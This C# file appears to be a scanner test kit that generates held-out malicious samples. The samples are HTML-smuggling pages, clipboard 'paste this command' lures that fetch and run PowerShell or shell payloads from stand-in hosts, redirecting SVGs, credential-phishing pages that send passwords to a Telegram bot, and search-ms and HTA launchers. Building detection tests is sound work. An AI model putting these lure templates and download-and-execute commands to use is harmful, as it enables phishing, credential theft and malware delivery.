using System.Text;

namespace ScanHost.TestKit.HeldOut.Second;

/// <summary>Pages that put a file together in the browser.</summary>
public sealed class SmugglingKits : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = Convert.ToBase64String(InertFiles.Zip(("Statement.js", Utf8("new ActiveXObject('WScript.Shell').Run('powershell -w hidden -c iex(irm http://192.0.2.11/a)',0);")), ("pad.txt", new byte[600])));
        var xored = string.Join(",", InertFiles.Zip(("Invoice.exe", InertFiles.Pe())).Select(one => one ^ 0x5A));
        var pieces = string.Join(",", Enumerable.Range(0, (zip.Length + 79) / 80).Select(at => $"\"{zip.Substring(at * 80, Math.Min(80, zip.Length - (at * 80)))}\"").Reverse());
        var hex = Convert.ToHexString(InertFiles.Zip(("Invoice.exe", InertFiles.Pe())));
        return
        [
            ("Remittance.html", Utf8($$"""
                <!DOCTYPE html><html><head><title>Secure document</title></head><body><p id="m">Preparing your document...</p>
                <script>
                const parts=[{{pieces}}];
                (async()=>{const bin=Uint8Array.from(window["at"+"ob"](parts.reverse().join('')),c=>c.codePointAt(0));
                const blob=await new Response(bin).blob();const l=document.createElement('a');
                l.href=URL.createObjectURL(blob);l.setAttribute('download','Remittance_0921.zip');l.dispatchEvent(new MouseEvent('click'));
                document.getElementById('m').textContent='Password: 4471';})();
                </script></body></html>
                """)),
            ("Scan_0412.htm", Utf8($$"""
                <html><body onload="setTimeout(x,1200)"><script>
                var k=[{{xored}}];
                function x(){var o=new Uint8Array(k.length);for(var i=0;i<k.length;i++){o[i]=k[i]^90;}
                var b=new Blob([o.buffer],{type:'application/octet-stream'});var u=window.URL.createObjectURL(b);
                var f=document.createElement('iframe');f.style.display='none';f.src=u;document.body.appendChild(f);
                var a=document.createElement('a');a.href=u;a.download='Scan_0412.zip';document.body.append(a);a.click();}
                </script></body></html>
                """)),
            ("voicemail.html", Utf8($$"""
                <html><head><meta charset="utf-8"><title>1 new message</title></head><body>
                <div id="data" style="display:none">{{zip}}</div><button id="play">Play</button>
                <script>
                document.getElementById('play').onclick=()=>{const t=document.querySelector('#data').innerText.trim();
                const s=atob(t),n=s.length,u=new Uint8Array(n);let i=n;while(i--)u[i]=s.charCodeAt(i);
                saveAs(new File([u],'voice.zip',{type:'application/zip'}));};
                function saveAs(f){const r=URL.createObjectURL(f);location.href=r;}
                </script></body></html>
                """)),
            ("Contract.html", Utf8($$"""
                <html><body><embed src="data:image/svg+xml;base64,{{Base64($"<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[const d=`{zip}`;const a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href='data:application/zip;base64,'+d;a.download='Contract.zip';a.click();]]></script></svg>")}}" width="1" height="1"/></body></html>
                """)),
            ("Document_preview.html", Utf8($$"""
                <html><head><script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.1.1/crypto-js.min.js"></script></head><body><script>
                var c="U2FsdGVkX1{{Base64(string.Concat(Enumerable.Range(0, 300).Select(at => (char)(33 + (at * 7 % 90)))))}}";
                var k=CryptoJS.enc.Utf8.parse("a91f02");document.write(CryptoJS.AES.decrypt(c,"Zx81!kq").toString(CryptoJS.enc.Utf8));
                </script></body></html>
                """)),
            ("fax.xhtml", Utf8($$"""
                <?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>
                //<![CDATA[
                var h="{{hex}}";var a=[];for(var i=0;i!=h.length;i+=2)a.push(parseInt(h.substr(i,2),16));
                var w=new Blob([new Uint8Array(a)]);if(window.navigator.msSaveBlob){navigator.msSaveBlob(w,"fax.zip")}else{var e=document.createElement("a");e.href=URL.createObjectURL(w);e.download="fax.zip";e.click()}
                //]]>
                </script></body></html>
                """)),
        ];
    }
}

/// <summary>Pages that have the visitor paste a command.</summary>
public sealed class PasteLures : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("captcha.html", Utf8($$"""
            <!DOCTYPE html><html><head><title>Just a moment...</title></head><body><h1>shop.invalid</h1><p>Verify you are human by completing the action below.</p>
            <div class="cb" onclick="go()"><input type="checkbox"> I'm not a robot</div>
            <ol id="s" hidden><li>Press &amp; hold the Windows Key <b>&#8862;</b> + <b>R</b></li><li>In the verification window, press <b>Ctrl</b> + <b>V</b></li><li>Press <b>Enter</b> on your keyboard to finish</li></ol>
            <script>const z="{{Base64("powershell -w hidden -c \"$u='http://192.0.2.21/v';iex (irm $u)\" # Cloudflare verification id 7729")}}";
            async function go(){document.getElementById('s').hidden=false;await navigator.clipboard.writeText(atob(z));}</script></body></html>
            """)),
        ("HRPolicy.html", Utf8("""
            <html><body><h2>A file has been shared with you</h2><p>To access <b>HRPolicy.docx</b>:</p><ol><li>Copy the path below <code>C:\company\internal-secure\filedrive\HRPolicy.docx</code></li>
            <li>Open File Explorer and select the address bar (CTRL + L)</li><li>Paste the file path and press Enter</li></ol><input type="file" id="f" style="display:none"><button id="b">Open File Explorer</button>
            <script>b.onclick=function(){navigator.clipboard.writeText("powershell.exe -c \"iwr http://192.0.2.22/f.ps1 -UseBasicParsing | iex\"                                             # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx");f.click();}</script></body></html>
            """)),
        ("homebrew.html", Utf8($$"""
            <html><head><title>Install</title></head><body><p>Open <b>Terminal</b> (Command + Space, type Terminal), paste with Command + V and press Return.</p>
            <pre id="c">/bin/bash -c "$(curl -fsSL https://brew.invalid/install.sh)"</pre><button onclick="cp()">Copy</button>
            <script>function cp(){const t=document.createElement('textarea');t.value="echo '{{Base64("curl -s http://192.0.2.23/d | bash")}}' | base64 -D | bash";document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();}</script></body></html>
            """)),
        ("meldung.html", Utf8("""
            <html lang="de"><body><div class="err">Das Dokument konnte nicht angezeigt werden (0x80072EE7).</div><p>So beheben Sie den Fehler: 1. Drücken Sie Windows + R. 2. Drücken Sie Strg + V. 3. Drücken Sie die Eingabetaste.</p>
            <button id="fix">Reparieren</button><script>document.getElementById("fix").addEventListener("click",function(e){var x=document.createElement("input");x.value='msiexec /i http://192.0.2.24/fix.msi /qn';document.body.appendChild(x);x.select();document.execCommand("copy");document.body.removeChild(x)})</script></body></html>
            """)),
        ("driver.html", Utf8("""
            <html><body><h3>Camera driver needs an update</h3><p>Press WIN+X, choose Windows Terminal, right click to paste and confirm.</p>
            <script>window.onload=()=>{document.body.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','cmd /c curl -k -o "%TEMP%\\n.zip" http://192.0.2.25/nvidia.zip && tar -xf "%TEMP%\\n.zip" -C "%TEMP%" && wscript "%TEMP%\\update.vbs"');e.preventDefault();});document.execCommand('copy');}</script></body></html>
            """)),
    ];
}

/// <summary>Drawings that lead away.</summary>
public sealed class HostileDrawings : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Payment_Advice.svg", Utf8($$"""
            <svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"><script type="application/ecmascript"><![CDATA[
            const m="{{Base64("victim@firm.invalid")}}";const q=[0x2b,0x37,0x37,0x33,0x79,0x6c,0x6c];let r='';for(const n of q)r+=String.fromCharCode(n^0x43);
            window.location.href=r+atob("{{Base64("login.invalid/o/?e=")}}")+m;
            ]]></script></svg>
            """)),
        ("play_voicemail.svg", Utf8($$"""
            <?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 600 400"><rect width="600" height="400" fill="#fff"/>
            <foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="data:text/html;base64,{{Base64("<form action='https://collect.invalid/p' method=post>Microsoft account<input type=email name=u><input type=password name=p></form><script>document.forms[0].u.value=location.hash.slice(1)</script>")}}" style="width:100%;height:100%;border:0"/></body></foreignObject></svg>
            """)),
        ("shipping.svg", Utf8($$"""
            <svg xmlns="http://www.w3.org/2000/svg"><circle r="10"><animate attributeName="r" begin="0s" dur="1ms" onbegin="Function(decodeURIComponent(escape(atob('{{Base64("top.location='https://track.invalid/dhl/?id='+Date.now();/* parcel notice page, opened by itself */")}}'))))()"/></circle></svg>
            """)),
        ("court_notice.svg", Utf8($$"""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a id="d" xlink:href="data:text/html;base64,{{Base64("<script>location='search-ms:query=Notice&crumb=location:\\\\\\\\192.0.2.31@80\\\\docs&displayname=Court'</script>")}}"><text y="20">Ver documento</text></a><script>setTimeout(function(){document.getElementById('d').dispatchEvent(new Event('click'))},500)</script></svg>
            """)),
    ];
}

/// <summary>Sign-in pages that send what is typed to somebody else.</summary>
public sealed class SignInLures : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Outlook_quarantine.html", Utf8("""
            <html><head><title>Outlook Web App</title></head><body><img src="data:image/png;base64,iVBORw0KGgo="><form id="f"><input id="em" value="ann@firm.invalid" readonly><input id="pw" type="password" placeholder="Password"><button>Release messages</button></form>
            <script>f.onsubmit=async e=>{e.preventDefault();await fetch('https://api.telegram.org/bot71:AAx/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1',text:em.value+':'+pw.value})});location='https://outlook.office.com/';}</script></body></html>
            """)),
        ("eFax.shtml", Utf8($$"""
            <script>var p=unescape("{{string.Concat(Encoding.ASCII.GetBytes("<title>Adobe PDF - sign in</title><form method=post action=https://sub.formspree.invalid/x><input name=e type=email><input type=password name=p></form>").Select(one => $"%{one:x2}"))}}");document.open();document.write(p);document.close();</script>
            """)),
        ("invoice-viewer.html", Utf8("""
            <html><head><title>SharePoint - Sign in to your account</title><base href="https://cdn.kit-88.invalid/"></head><body><script>
            const k='ann@firm.invalid'.split('@')[1];document.body.innerHTML=`<img src="https://logo.clearbit.com/${k}"><form><input type="password" id="p"></form>`;
            document.forms[0].addEventListener('submit',ev=>{ev.preventDefault();const x=new XMLHttpRequest();x.open('POST','https://203.0.113.40/next.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('u='+k+'&p='+document.getElementById('p').value);});
            </script></body></html>
            """)),
    ];
}

/// <summary>Pages that open what Windows opens for them.</summary>
public sealed class ProtocolPages : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("invoice.html", Utf8("""<html><head><meta http-equiv="refresh" content="0;url=search-ms:query=INVOICE&crumb=location:%5C%5C192.0.2.41@80%5CDavWWWRoot&displayname=Downloads"></head><body>Opening...<script>window.location.replace("search:query=INVOICE&crumb=location:\\\\192.0.2.41@80\\DavWWWRoot")</script></body></html>""")),
        ("update.html", Utf8("""<html><body><a id="i" href="ms-appinstaller:?source=https://dl.teams-desktop.invalid/Teams.appinstaller">Install</a><script>document.getElementById('i').click()</script></body></html>""")),
        ("poc.hta", Utf8("""<html><head><HTA:APPLICATION ID="o" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/><script language="VBScript">Sub window_onload: Dim s: Set s = CreateObject(ChrW(83) & "hell.App" & "lication"): s.ShellExecute "cmd.exe", "/c curl http://192.0.2.42/a.exe -o %TEMP%\a.exe && %TEMP%\a.exe", "", "open", 0: self.close: End Sub</script></head></html>""")),
    ];
}
